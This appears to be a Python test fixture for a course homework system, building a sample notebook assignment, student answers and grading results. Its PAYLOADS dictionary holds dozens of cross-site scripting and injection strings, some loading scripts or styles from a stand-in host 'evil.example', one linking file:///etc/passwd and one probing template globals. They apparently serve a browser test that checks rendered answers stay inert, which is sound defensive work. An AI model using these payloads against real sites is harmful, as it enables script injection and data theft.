"""A small homework as a student got it, handed it in and had it judged; for the pages that show it."""

import base64
import copy
import io

from matplotlib.figure import Figure
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from course.homework.results import Result, Score
from course.homework.sources import Assignment, Problem, Test

SLUG = "12-paths"
MISCONCEPTION = "your path runs the wrong way: at t = 0 it is at the data."
RUBRIC, SOLUTION = "RUBRIC: one point for Itô, two for the half.", "SOLUTION: half of it is the Itô term."
HIDDEN_TEXT, HIDDEN_INPUT = "HIDDENPROBE: return answer(0.777)", "HIDDENINPUT 0.777"

# What hostile answers are made of; `fired()` says to the browser test that one of them ran.
PAYLOADS = {
    "script": "<script>fired()</script>",
    "script in capitals": "<ScRiPt src='//evil.example/x.js'></sCrIpT>",
    "script across lines": "<script\n>fired()</script\n>",
    "event handler": "<img src=x onerror=fired()>",
    "handler on a slash": "<svg/onload=fired()>",
    "svg": "<svg><script>fired()</script><a href='javascript:fired()'><text>x</text></a></svg>",
    "math": "<math><mtext><img src=x onerror=fired()></mtext></math>",
    "iframe": "<iframe src='javascript:fired()' srcdoc='<script>parent.fired()</script>'></iframe>",
    "form": "<form action='//evil.example'><button autofocus onfocus=fired()>x</button></form>",
    "style": "<style>@import '//evil.example/x.css'; * { background: url(//evil.example/y) }</style>",
    "meta": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "base": "<base href='//evil.example/'>",
    "object": "<object data='javascript:fired()'></object><embed src='data:text/html,<script>fired()</script>'>",
    "details": "<details open ontoggle=fired()><summary>x</summary></details>",
    "end of pre": "</pre></code></div></section><script>fired()</script>",
    "end of title": "</title></style></textarea><script>fired()</script>",
    "comment": "<!-- --><script>fired()</script><!-- -->",
    "cdata": "<![CDATA[<script>fired()</script>]]>",
    "javascript link": "[x](javascript:fired())",
    "javascript link in entities": "[x](java&#115;cript&colon;fired())",
    "javascript link with a tab": "[x](java\tscript:fired())",
    "javascript link in capitals": "[x](JaVaScRiPt:fired())",
    "javascript link in angles": "[x](<javascript:fired()>)",
    "javascript in an autolink": "<javascript:fired()>",
    "javascript by reference": "[x][y]\n\n[y]: javascript:fired()",
    "percent": "[x](%6Aavascript:fired())",
    "control character": "[x](\x01javascript:fired())",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5maXJlZCgpPC9zY3JpcHQ+)",
    "vbscript": "[x](vbscript:fired())",
    "file": "[x](file:///etc/passwd)",
    "title": '[x](https://example.org "\' onmouseover=fired() \\" onclick=fired()")',
    "picture": "![x](https://evil.example/pixel.png)",
    "picture with a handler": '![" onerror="fired()](x" onerror="fired())',
    "data picture": "![x](data:image/svg+xml,<svg onload=fired()>)",
    "formula link": r"$\href{javascript:fired()}{x}$",
    "formula with html": r"$\htmlData{onclick=fired()}{x} \class{x\" onload=\"fired()}{y} \style{x:url(//e)}{z}$",
    "formula text": r"$$\text{</mtext></math><script>fired()</script>}$$",
    "formula of tags": "$</script><script>fired()</script>$ and $a<img src=x onerror=fired()>b$",
    "formula colour": r"$\color{red;background:url(//evil.example)}x$",
    "formula label": '$$x$$ (" onload=fired())',
    "formula definitions": r"$\def\a{\a\a}\a$ $\newcommand{\b}{\b\b}\b$",
    "deep formula": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "fence": "```html\n<script>fired()</script>\n```",
    "fence that ends": "```\n```\n<script>fired()</script>",
    "info string": '```"><script>fired()</script>\nx\n```',
    "mermaid": '```mermaid\ngraph TD; A["<img src=x onerror=fired()>"]\n```',
    "table": "| a |\n| --- |\n| <img src=x onerror=fired()> |",
    "heading": "# <img src=x onerror=fired()> {onclick=fired()}",
    "template": "{{ fired() }} {% raw %} ${fired()} {{ cycler.__init__.__globals__ }}",
    "wrong direction": "user\u202e\u2066gpj.exe\u2069",
    "half a character": "\ud83d\x00\x1b]0;x\x07",
}


def cell(name, source, *, grade=False, solution=False, points=None, written=False):
    """A cell as in the student edition."""
    made = (new_markdown_cell if written else new_code_cell)(source, id=name)
    marks = {"schema_version": 3, "grade_id": name, "grade": grade, "solution": solution, "locked": not solution}
    made.metadata["nbgrader"] = marks | {"task": False} | ({"points": points} if grade else {})
    return made


def release():
    """The student edition: a problem in code with a check and a hidden test, and one in words."""
    return new_notebook(
        cells=[
            new_markdown_cell("# Paths that pause\n\nAbout an hour.", id="text-00000001"),
            cell("setup", "import torch"),
            new_markdown_cell(
                "## 1. A path that pauses (6 points)\n\nWrite $x_t = (1-t)\\,x_0 + t\\,x_1$, but **pausing**:\n\n"
                "$$\\frac{d}{dt}\\log p_t = -\\operatorname{div} v_t .$$",
                id="text-00000002",
            ),
            cell("paused-path", "def paused_path(x0, x1, t):\n    ...", solution=True),
            cell("paused-path-check", "def probe(generator): ...", grade=True, points=2),
            cell("paused-path-hidden", "# A hidden test (4 points)", grade=True, points=4),
            new_markdown_cell("## 2. Why half? (3 points)\n\nDerive it.", id="text-00000003"),
            cell("why-half", "Your derivation.", grade=True, solution=True, points=3, written=True),
        ]
    )


def assignment():
    """What the author wrote, as far as pages need it."""
    tests = (
        Test("paused-path-check", "def probe(generator): ...", 2),
        Test("paused-path-hidden", HIDDEN_TEXT, 4, hidden=True),
    )
    problems = (
        Problem("paused-path", "A path that pauses", 6, "...", wrong={MISCONCEPTION: "..."}, tests=tests),
        Problem("why-half", "Why half?", 3, "...", solution=SOLUTION, rubric=RUBRIC),
    )
    return Assignment(SLUG, "Paths that pause", 60, ("pause",), new_notebook(), problems, ({},))


def answered(code="def paused_path(x0, x1, t):\n    return x0", words="Because of *Itô*.", own=(), outputs=()):
    """The release with answers in it, cells of the student's own, and outputs of the first answer."""
    notebook = copy.deepcopy(release())
    by_name = {cell.id: cell for cell in notebook.cells}
    by_name["paused-path"].source, by_name["why-half"].source = code, words
    by_name["paused-path"].outputs = list(outputs)
    place = notebook.cells.index(by_name["paused-path"])
    notebook.cells[place:place] = [new_code_cell(source, id=f"own-{i}") for i, source in enumerate(own, start=1)]
    return notebook


def result(notebook, *, student="ada", earned=(2, 0), messages=("Right.", f"Not yet: {MISCONCEPTION}"), flags=()):
    """What the judge made of it."""
    tests = tuple(
        Score(name, "paused-path", points, got, message)
        for name, points, got, message in zip(
            ("paused-path-check", "paused-path-hidden"), (2, 4), earned, messages, strict=True
        )
    )
    return Result(student, SLUG, tests, tuple(flags), notebook=dict(notebook))


def png_output():
    """A picture as matplotlib gives it."""
    figure = Figure(figsize=(2, 1), dpi=50)
    figure.subplots().plot([0, 1])
    figure.savefig(buffer := io.BytesIO())
    return new_output("display_data", data={"image/png": base64.b64encode(buffer.getvalue()).decode()})
